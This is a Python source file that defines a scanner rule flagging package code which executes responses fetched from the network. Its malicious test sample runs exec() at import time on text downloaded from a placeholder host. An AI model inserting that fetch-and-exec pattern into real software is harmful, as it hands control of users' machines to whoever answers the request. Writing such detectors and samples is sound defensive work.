"""Code that comes from the network and is run."""

from __future__ import annotations

from collections.abc import Iterator

from wheelmark.scan.facts import Act, Facts
from wheelmark.scan.report import Severity, Tactic
from wheelmark.scan.rule import Evidence, Rule
from wheelmark.scan.rules._common import fetched_from_drop, graded, told
from wheelmark.scan.samples import Sample, Samples
from wheelmark.scan.values import Taint


def check(facts: Facts) -> Iterator[Evidence]:
    drops = fetched_from_drop(facts)
    for call in facts.calls_of(Act.RUN_CODE, Act.LOAD_CODE, Act.START_PROCESS):
        responses = [
            origin for value in call.arguments[:1] for origin in sorted(value.origins) if origin.taint is Taint.NETWORK
        ]
        if not responses:
            continue
        on_call = Severity.HIGH if call.act is Act.RUN_CODE and call.name == "exec" else Severity.LOW
        if call.name == "exec" and any((call.member, origin.line) in drops for origin in responses):
            on_call = Severity.CRITICAL
        severity = graded(call.context, automatic=Severity.CRITICAL, entry=Severity.HIGH, on_call=on_call)
        received = any(origin.what.endswith((".recv", ".recvfrom")) for origin in responses)
        if call.act is Act.START_PROCESS and severity is Severity.CRITICAL and not received:
            # A version number from a server in a command line is not yet a command from a server.
            severity = Severity.HIGH
        if severity is not None:
            yield Evidence.of_call(
                call, severity, f"{call.name} of {told(responses)}", origins=call.arguments[0].origins
            )


RULE = Rule(
    id="response-executed",
    version=2,
    severity=Severity.CRITICAL,
    tactic=Tactic.COMMAND_AND_CONTROL,
    message="What a server answers is executed as code: the file does whatever that server says at that moment.",
    reference="https://attack.mitre.org/techniques/T1105/",
    check=check,
    samples=Samples(
        malicious=(
            Sample.imported("""
                import requests


                def _news():
                    return requests.get("https://news.example.invalid/today").text


                exec(_news())
            """),
        ),
        benign=(
            Sample.imported("""
                import json
                import urllib.request


                def latest():
                    with urllib.request.urlopen("https://pypi.example.invalid/pypi/widget/json") as response:
                        return json.load(response)["info"]["version"]


                exec("ANSWER = 42")
            """),
        ),
    ),
)
